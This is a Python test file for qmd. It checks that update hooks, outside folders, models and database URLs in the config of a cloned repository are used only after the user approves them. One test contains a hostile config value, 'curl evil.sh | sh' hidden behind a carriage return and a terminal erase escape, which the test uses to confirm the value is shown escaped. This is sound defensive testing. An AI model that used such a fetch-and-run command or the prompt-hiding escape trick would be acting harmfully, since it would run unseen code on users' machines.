"""Project-local indexes (`.qmd/index.yml`) and the trust gate, on a real `git clone`.

The cloned repository's config runs an `update:` command that writes a marker file: the
marker must never appear without approval; on a terminal (a real pty) qmd asks; an
approval holds until the command changes; agents, MCP and the updater skip it and index.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from qmd.core import trust
from qmd.core.paths import find_local_config, resolve_index
from tests.support.run import command, local_env, qmd_at, qmd_on_terminal

def git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, env=local_env(), check=True, capture_output=True, text=True).stdout


@pytest.fixture
def clone(tmp_path: Path) -> tuple[Path, Path]:
    """(the upstream repository, a fresh clone of it): docs plus a .qmd config whose
    `update:` writes a marker (outside the project) and whose second collection lies outside."""
    upstream = tmp_path / "upstream"
    (upstream / "docs").mkdir(parents=True)
    (upstream / "docs" / "deploy.md").write_text("# Deploy\n\nRoll back the canary with the blue switch.\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.md").write_text("# Secret\n\nprivate words zebrafish\n")
    marker = tmp_path / "MARKER"
    (upstream / ".qmd").mkdir()
    (upstream / ".qmd" / "index.yml").write_text(
        "collections:\n"
        f"  docs:\n    path: docs\n    update: touch {marker}\n"
        f"  home:\n    path: {outside}\n"
    )
    return upstream, published(upstream, tmp_path / "work")


def published(upstream: Path, work: Path) -> Path:
    """`upstream` made a git repository with one commit, and a fresh clone of it at `work`."""
    git(upstream, "init", "-q", "-b", "main")
    git(upstream, "add", ".")
    git(upstream, "commit", "-q", "-m", "docs")
    git(work.parent, "clone", "-q", str(upstream), str(work))
    return work


def marker_of(work: Path) -> Path:
    return work.parent / "MARKER"


def test_resolution_walks_up_and_index_beats_it(clone: tuple[Path, Path]) -> None:
    _, work = clone
    found = find_local_config(work / "docs")
    assert found == work / ".qmd" / "index.yml"
    paths = resolve_index(None, work / "docs")
    assert paths.local and paths.index_path == work / ".qmd" / "index.sqlite" and paths.project_root == work
    assert resolve_index("index", work).source == "named"  # --index NAME selects a named index anywhere
    assert resolve_index(str(found)).local  # the harness's key for it


def test_no_terminal_skips_gated_fields_and_still_indexes(clone: tuple[Path, Path]) -> None:
    _, work = clone
    result = qmd_at(work / "docs", "update")
    assert result.returncode == 0, result.stderr
    assert not marker_of(work).exists()
    assert "not trusted" in result.stderr and "qmd trust" in result.stderr
    assert "deploy" in qmd_at(work, "search", "canary", "--json").stdout
    assert json.loads(qmd_at(work, "search", "zebrafish", "--json").stdout or "[]") == []  # the outside collection was not indexed
    status = qmd_at(work, "status", "--json")
    where = json.loads(status.stdout)["index"]
    assert where["source"] == "local" and where["trust"]["trusted"] is False
    assert "In use: project-local" in qmd_at(work, "status").stdout


@pytest.mark.slow
def test_terminal_asks_approval_holds_until_the_command_changes(clone: tuple[Path, Path]) -> None:
    upstream, work = clone
    code, text = qmd_on_terminal(work, "update", answer="n", env=local_env())
    assert code == 0 and "Trust this project's .qmd config? [y/N]" in text and "touch" in text
    assert not marker_of(work).exists()

    code, text = qmd_on_terminal(work, "update", answer="y", env=local_env())
    assert code == 0 and "Trusted" in text, text
    assert marker_of(work).exists()
    record = json.loads(trust.trust_file_path().read_text())
    assert set(record) == {str(work / ".qmd" / "index.yml")} and set(record[str(work / ".qmd" / "index.yml")]) == {"hooks", "trustedAt"}

    # approved: unattended runs (an agent, CI) use it without asking
    marker_of(work).unlink()
    assert qmd_at(work, "update").returncode == 0 and marker_of(work).exists()
    assert "zebrafish" in qmd_at(work, "search", "zebrafish").stdout

    # a `git pull` that rewrites the command asks again
    config = upstream / ".qmd" / "index.yml"
    config.write_text(config.read_text().replace("touch", "true && touch"))
    git(upstream, "commit", "-q", "-am", "edit the hook")
    git(work, "pull", "-q")
    marker_of(work).unlink()
    result = qmd_at(work, "update")
    assert result.returncode == 0 and "not trusted" in result.stderr
    assert not marker_of(work).exists()

    # qmd trust approves the new set; revoke drops it
    assert "Trusted" in qmd_at(work, "trust").stdout
    assert str(work / ".qmd" / "index.yml") in qmd_at(work, "trust", "list").stdout
    assert qmd_at(work, "update").returncode == 0 and marker_of(work).exists()
    assert "Revoked" in qmd_at(work, "trust", "revoke").stdout
    marker_of(work).unlink()
    qmd_at(work, "update")
    assert not marker_of(work).exists()


def test_opt_in_variables(clone: tuple[Path, Path]) -> None:
    _, work = clone
    assert qmd_at(work, "update", QMD_TRUST_UPDATE_HOOKS="0").returncode == 0 and not marker_of(work).exists()
    assert qmd_at(work, "update", QMD_TRUST_LOCAL_CONFIG="1").returncode == 0 and marker_of(work).exists()


def test_digest_ignores_defaults_and_order(tmp_path: Path) -> None:
    config = tmp_path / "p" / ".qmd" / "index.yml"
    config.parent.mkdir(parents=True)
    a = {"collections": {"x": {"path": "a", "update": "make"}, "y": {"path": "b", "update": "git pull"}}}
    b = {"collections": {"y": {"path": "b", "update": "git pull"}, "x": {"path": "a", "update": "make"}}, "models": trust.builtin_models()}
    assert trust.digest(config, trust.gated_items(config, a)) == trust.digest(config, trust.gated_items(config, b))
    assert not trust.gated_items(config, {"models": trust.builtin_models(), "collections": {"d": {"path": "."}}})
    custom = trust.gated_items(config, {"models": {"embed": "/tmp/other.gguf"}})
    assert custom.models == (("embed", "/tmp/other.gguf"),)
    own = tmp_path / "home" / ".config" / "qmd" / "index.yml"
    assert trust.decide(own, a).allowed and not trust.decide(own, a).local  # the user's own config is never gated


def test_mcp_from_the_folder_serves_it_and_runs_nothing(clone: tuple[Path, Path]) -> None:
    _, work = clone
    qmd_at(work, "update")
    requests = [
        {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}},
        {"jsonrpc": "2.0", "method": "notifications/initialized"},
        {"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "query", "arguments": {"searches": [{"type": "lex", "query": "canary"}]}}},
    ]
    proc = subprocess.Popen(command("mcp"), cwd=work / "docs", env=local_env(), stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert proc.stdin is not None and proc.stdout is not None
        proc.stdin.write("".join(json.dumps(r) + "\n" for r in requests))
        proc.stdin.flush()
        answer = ""
        while '"id":2' not in answer:
            line = proc.stdout.readline()
            assert line, "the server closed stdout"
            answer = line
        proc.stdin.close()
        proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert "deploy.md" in answer, answer
    assert not marker_of(work).exists()


def test_updater_routes_a_commit_to_the_local_index(clone: tuple[Path, Path]) -> None:
    _, work = clone
    assert qmd_at(work, "update").returncode == 0  # registers the local index with the harness
    (work / "docs" / "new.md").write_text("# Pager\n\nthe pager rota for quokka week\n")
    git(work, "add", ".")
    git(work, "commit", "-q", "-m", "pager")
    from qmd.core.paths import StateLayout
    from updater import spool

    layout = StateLayout.current()
    layout.ensure_queue()
    spool.enqueue(layout, str(work), "post-commit")
    result = qmd_at(work, "updater", "run", "--json")
    assert result.returncode == 0, result.stderr
    assert not marker_of(work).exists()  # the updater has nobody to ask
    assert "new.md" in qmd_at(work, "search", "quokka", "--json").stdout
    folders = json.loads(layout.guard_folders.read_text())["folders"]
    assert {"path": os.path.realpath(work / "docs"), "index": str(work / ".qmd" / "index.yml"), "collection": "docs"} in folders
    assert not any(f["collection"] == "home" for f in folders)  # untrusted outside folder: not indexed, not guarded


def test_init_writes_the_config_with_model_defaults(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    (project / "notes").mkdir(parents=True)
    (project / "notes" / "a.md").write_text("# A\n\nalpha words\n")
    result = qmd_at(project, "init")
    assert result.returncode == 0 and "ready to go with new local index" in result.stdout
    text = (project / ".qmd" / "index.yml").read_text()
    assert "embeddinggemma" in text and (project / ".qmd" / "index.sqlite").exists()
    assert qmd_at(project, "collection", "add", "notes", "--name", "notes").returncode == 0
    assert "path: notes" in (project / ".qmd" / "index.yml").read_text()  # relative: the same in every clone
    assert "alpha" in qmd_at(project / "notes", "search", "alpha").stdout
    home = Path(os.environ["HOME"])
    assert qmd_at(home, "init").returncode == 1


def _gated_repo(tmp_path: Path, field: str, value: str) -> tuple[Path, Path]:
    """(upstream, clone) whose .qmd config gates one `field` (update, outside, model) set to `value`."""
    upstream = tmp_path / "upstream"
    (upstream / "docs").mkdir(parents=True)
    (upstream / "docs" / "deploy.md").write_text("# Deploy\n\nRoll back the canary.\n")
    (upstream / ".qmd").mkdir()
    (upstream / ".qmd" / "index.yml").write_text(_gated_config(field, value))
    return upstream, published(upstream, tmp_path / "work")


def _gated_config(field: str, value: str) -> str:
    docs = "collections:\n  docs:\n    path: docs\n" + (f"    update: {value}\n" if field == "update" else "")
    if field == "outside":
        docs += f"  away:\n    path: {value}\n"
    return docs + (f"models:\n  embed: {value}\n" if field == "model" else "")


@pytest.mark.parametrize("field", ["update", "outside", "model"])
@pytest.mark.slow
def test_each_gated_field_by_terminal_approval_and_edit(tmp_path: Path, field: str) -> None:
    """The trust table: each gated field with no terminal (skipped), on a terminal (asked:
    no keeps it skipped, yes uses it), approved (used unattended) and edited by a `git pull`
    after approval (skipped again until approved again)."""
    values = {
        "update": (f"touch {tmp_path / 'MARKER-1'}", f"touch {tmp_path / 'MARKER-2'}"),
        "outside": (str(tmp_path / "away-1"), str(tmp_path / "away-2")),
        "model": (str(tmp_path / "custom-1.gguf"), str(tmp_path / "custom-2.gguf")),
    }[field]
    for i, word in ((1, "zebrafish"), (2, "quokka")):
        (tmp_path / f"away-{i}").mkdir()
        (tmp_path / f"away-{i}" / "far.md").write_text(f"# Far\n\n{word} notes\n")
    upstream, work = _gated_repo(tmp_path, field, values[0])

    def used(version: int) -> bool:
        """Did the last `qmd update` (or the config as read now) use the field's value `version`?"""
        if field == "update":
            return (tmp_path / f"MARKER-{version}").exists()
        if field == "outside":
            return json.loads(qmd_at(work, "search", ("zebrafish", "quokka")[version - 1], "--json").stdout or "[]") != []
        models = json.loads(qmd_at(work, "status", "--json").stdout)["models"]
        return next(m for m in models if m["role"] == "embed")["spec"] == values[version - 1]

    result = qmd_at(work, "update")  # no terminal
    assert result.returncode == 0 and "not trusted" in result.stderr and not used(1)
    code, text = qmd_on_terminal(work, "update", answer="n", env=local_env())  # a terminal, the answer no
    assert code == 0 and "[y/N]" in text and not used(1)
    code, text = qmd_on_terminal(work, "update", answer="y", env=local_env())  # a terminal, the answer yes
    assert code == 0 and "Trusted" in text and used(1), text
    (tmp_path / "MARKER-1").unlink(missing_ok=True)
    assert qmd_at(work, "update").returncode == 0 and used(1)  # approved: used unattended
    config = upstream / ".qmd" / "index.yml"
    config.write_text(_gated_config(field, values[1]))  # a pull that rewrites the field
    git(upstream, "commit", "-q", "-am", "edit")
    git(work, "pull", "-q")
    result = qmd_at(work, "update")
    assert result.returncode == 0 and "not trusted" in result.stderr and not used(2)


def test_an_untrusted_database_is_never_connected_to(tmp_path: Path) -> None:
    """`database:` in a cloned config would send the notes and every query to a server the
    repository chose: untrusted, the index stays in .qmd/index.sqlite and nothing connects."""
    import socket
    import threading

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    connections: list[object] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            connections.append(conn)
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        url = f"postgresql://victim@127.0.0.1:{listener.getsockname()[1]}/notes"
        _, work = _gated_repo(tmp_path, "update", "true")
        config = work / ".qmd" / "index.yml"
        config.write_text(f"database: {url}\ncollections:\n  docs:\n    path: docs\n")
        result = qmd_at(work, "update")
        assert result.returncode == 0 and "database server" in result.stderr, result.stderr
        assert "deploy.md" in qmd_at(work, "search", "canary", "--json").stdout
        assert (work / ".qmd" / "index.sqlite").stat().st_size > 0
        assert "A database server for this index:" in qmd_at(work, "trust", "list").stdout + qmd_at(work, "status", "--json").stdout
        assert connections == []
        qmd_at(work, "search", "canary", QMD_TRUST_LOCAL_CONFIG="1")  # trusted: it goes where the config says
        assert connections
    finally:
        stop.set()
        thread.join(2)
        listener.close()


def test_init_over_a_folder_or_a_file_in_the_way_is_one_error(tmp_path: Path) -> None:
    """A folder named .qmd/index.yml, a file named .qmd or a broken link there made `qmd init`
    crash (IsADirectoryError, exit 3) and every later command silently use the home index."""
    cases = {"dir-config": ".qmd/index.yml", "file-folder": ".qmd", "broken-link": ".qmd/index.yml"}
    for name, what in cases.items():
        project = tmp_path / name
        (project / ".qmd").mkdir(parents=True) if what != ".qmd" else project.mkdir()
        target = project / what
        if name == "dir-config":
            target.mkdir()
        elif name == "file-folder":
            target.write_text("")
        else:
            target.symlink_to(tmp_path / "nowhere")
        result = qmd_at(project, "init")
        assert result.returncode == 1 and str(target) in result.stderr and "hint: move it aside" in result.stderr, result.stderr
        assert "Traceback" not in result.stderr and "Unexpected" not in result.stderr


def test_init_with_custom_default_models_trusts_what_it_wrote(tmp_path: Path) -> None:
    """`qmd init` writes the resolved models: with the user's own custom default (an imported
    model set as default) the next command flagged that file as someone else's. What you
    wrote yourself is approved; a later edit (a pull) still asks."""
    custom = tmp_path / "mine.gguf"
    (tmp_path / "home-config").mkdir()
    models = tmp_path / "home-config" / "models.yml"
    models.write_text(f"embed: {custom}\n")
    project = tmp_path / "proj"
    project.mkdir()
    env = {"QMD_CONFIG_DIR": str(tmp_path / "home-config")}
    assert qmd_at(project, "init", **env).returncode == 0
    config = project / ".qmd" / "index.yml"
    assert str(custom) in config.read_text()
    status = json.loads(qmd_at(project, "status", "--json", **env).stdout)
    assert status["index"]["trust"]["trusted"] is True, status["index"]["trust"]
    config.write_text(config.read_text().replace(str(custom), str(tmp_path / "other.gguf")))
    assert json.loads(qmd_at(project, "status", "--json", **env).stdout)["index"]["trust"]["trusted"] is False


def test_a_collection_add_that_cannot_index_leaves_the_config_as_it_was(tmp_path: Path) -> None:
    """Inside a project whose index file is damaged (0 bytes), `collection add` failed but had
    already written the collection into .qmd/index.yml: nothing is half-done now, as in the
    home index."""
    project = tmp_path / "proj"
    (project / "docs").mkdir(parents=True)
    (project / "docs" / "a.md").write_text("# A\n\nalpha\n")
    assert qmd_at(project, "init").returncode == 0
    config = project / ".qmd" / "index.yml"
    before = config.read_text()
    (project / ".qmd" / "index.sqlite").write_bytes(b"")
    result = qmd_at(project, "collection", "add", "docs", "--name", "docs")
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert config.read_text() == before
    (project / ".qmd" / "index.sqlite").unlink()
    result = qmd_at(project, "collection", "add", "docs", "--name", "docs", "--update", "true")  # a sound index: added, indexed, approved
    assert result.returncode == 0 and "docs" in config.read_text(), result.stderr
    assert "a.md" in qmd_at(project, "search", "alpha", "--json").stdout
    assert json.loads(qmd_at(project, "status", "--json").stdout)["index"]["trust"]["trusted"] is True


def test_the_gated_fields_are_shown_inert_on_a_terminal(tmp_path: Path) -> None:
    """A cloned config's `update: "curl evil.sh | sh #\\r\\e[2K  docs: git pull --ff-only"`: the
    carriage return and the erase-line escape reached the terminal, which showed only the
    harmless tail at the trust prompt (and when `qmd update` ran it). They are shown escaped."""
    config = tmp_path / "proj" / ".qmd" / "index.yml"
    config.parent.mkdir(parents=True)
    hostile = "curl evil.sh | sh #\r\x1b[2K  docs: git pull --ff-only"
    lines = trust.gated_items(config, {"collections": {"docs\x1b[8m": {"path": "docs", "update": hostile}}}).lines()
    shown = "\n".join(lines)
    assert "\r" not in shown and "\x1b" not in shown, shown
    assert "curl evil.sh | sh #\\r\\x1b[2K  docs: git pull --ff-only" in shown and "docs\\x1b[8m:" in shown
